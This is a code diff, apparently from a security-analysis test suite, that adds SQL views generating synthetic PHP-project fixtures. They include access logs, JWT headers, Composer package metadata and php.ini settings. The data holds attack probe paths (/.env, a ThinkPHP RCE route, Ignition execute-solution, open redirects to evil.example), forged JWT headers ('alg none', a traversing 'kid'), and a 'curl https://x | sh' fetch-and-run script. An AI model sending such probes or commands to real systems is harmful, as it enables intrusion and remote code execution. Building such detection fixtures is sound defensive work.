@@ -141,6 +141,40 @@ VIEWS: dict[str, tuple[str, list[str]]] = {
         f"concat('proj', {_n('o_orderkey / 400')}) AS project", f"concat('src/F', {_n('o_orderkey / 40')}, '.php') AS path",
         "CAST(o_orderkey % 40 + 1 AS INT) AS line", f"{line_sql()} AS text",
     ]),
+    # access log: one request per event
+    "fx_access": ("events", [
+        "event_id", "user_id", "ts", "concat('10.0.0.', CAST(user_id % 250 AS STRING)) AS client",
+        "CASE event_id % 16 WHEN 0 THEN '/.env' WHEN 1 THEN '/%2egit/HEAD' WHEN 2 THEN '/index.php?s=index/think' WHEN 3 THEN '/login?next=https://evil.example/x' "
+        "WHEN 4 THEN '/go?url=//evil.example' WHEN 5 THEN '/backup/site.sql' WHEN 6 THEN '/catalog?id=7' WHEN 7 THEN '/%252e%2565nv' WHEN 8 THEN '/adminer?x=1' "
+        "WHEN 9 THEN '/xmlrpc.php' WHEN 10 THEN '/_ignition/execute-solution' WHEN 11 THEN '/out?to=javascript:alert(1)' WHEN 12 THEN '/r?next=%2Fhome' "
+        "WHEN 13 THEN '/r?next=%2F%2Fevil.example' WHEN 14 THEN '/profile/a.css' ELSE '/home' END AS uri",
+        "CASE event_type WHEN 'error' THEN 404 WHEN 'view' THEN 200 WHEN 'click' THEN 302 ELSE 200 END AS status", "event_type",
+    ]),
+    "fx_tokens": ("events", [
+        "event_id", "user_id", """CASE event_id % 4 WHEN 0 THEN '{"alg":"HS256","typ":"JWT"}' WHEN 1 THEN '{"alg":"none"}' WHEN 2 THEN '{"alg":"RS256","kid":"../key"}' ELSE '{"alg":"RS256"}' END AS head""",
+        """CASE event_type WHEN 'view' THEN '{"sub":1}' WHEN 'click' THEN '{"iat":1000,"exp":2000}' ELSE '{"iat":1000,"exp":90000}' END AS payload""",
+    ]),
+    "fx_require": ("part", [
+        f"concat('proj', {_n('p_partkey / 6')}) AS project",
+        "CASE p_size % 12 WHEN 0 THEN 'laravel/framework' WHEN 1 THEN 'topthink/framework' WHEN 2 THEN 'yiisoft/yii2' WHEN 3 THEN 'symfony/symfony' "
+        "WHEN 4 THEN 'cakephp/cakephp' WHEN 5 THEN 'slim/slim' WHEN 6 THEN 'monolog/monolog' WHEN 7 THEN 'guzzlehttp/guzzle' "
+        "WHEN 8 THEN 'ext-pdo_mysql' WHEN 9 THEN 'ext-pdo_pgsql' WHEN 10 THEN 'illuminate/routing' ELSE 'acme/tools' END AS package",
+        "CAST(p_size AS INT) AS age_months", "CAST(p_partkey % 97 AS INT) AS stars", "CAST(p_partkey % 9 AS INT) AS open_issues",
+        "CASE WHEN p_partkey % 3 = 0 THEN NULL ELSE 'MIT' END AS license", "CAST(p_partkey % 4 AS INT) AS maintainers", "p_partkey % 11 = 0 AS abandoned",
+        "CASE p_partkey % 5 WHEN 0 THEN 'php -r eval(x)' WHEN 1 THEN 'curl https://x | sh' ELSE 'phpunit' END AS script",
+        "CASE p_partkey % 5 WHEN 0 THEN 'ionCube Loader' WHEN 1 THEN 'xdebug' WHEN 2 THEN 'ffi' WHEN 3 THEN 'mcrypt' ELSE 'mbstring' END AS extension",
+        "p_partkey",
+    ]),
+    "fx_ini": ("orders", [
+        f"concat('proj', {_s('o_custkey')}) AS project",
+        "CASE o_orderkey % 13 WHEN 0 THEN 'allow_url_include' WHEN 1 THEN 'allow_url_fopen' WHEN 2 THEN 'display_errors' WHEN 3 THEN 'expose_php' "
+        "WHEN 4 THEN 'register_argc_argv' WHEN 5 THEN 'open_basedir' WHEN 6 THEN 'disable_functions' WHEN 7 THEN 'session.cookie_httponly' "
+        "WHEN 8 THEN 'session.cookie_secure' WHEN 9 THEN 'session.use_strict_mode' WHEN 10 THEN 'session.sid_length' WHEN 11 THEN 'session.gc_maxlifetime' "
+        "ELSE 'session.sid_bits_per_character' END AS key",
+        "CASE o_orderkey % 13 WHEN 10 THEN CASE o_orderstatus WHEN 'F' THEN '26' ELSE '48' END WHEN 11 THEN CASE o_orderstatus WHEN 'F' THEN '1440' ELSE '172800' END "
+        "WHEN 12 THEN CASE o_orderstatus WHEN 'F' THEN '4' ELSE '6' END ELSE CASE o_orderstatus WHEN 'F' THEN 'On' WHEN 'O' THEN 'Off' ELSE '' END END AS value",
+        "o_orderkey",
+    ]),
     "fx_names": ("part", [
         "lower(p_brand) AS vendor", f"concat(replace(p_name, ' ', '-'), '-', {_s('p_partkey % 10')}) AS name", "p_type = 'STANDARD' AS known",
     ]),
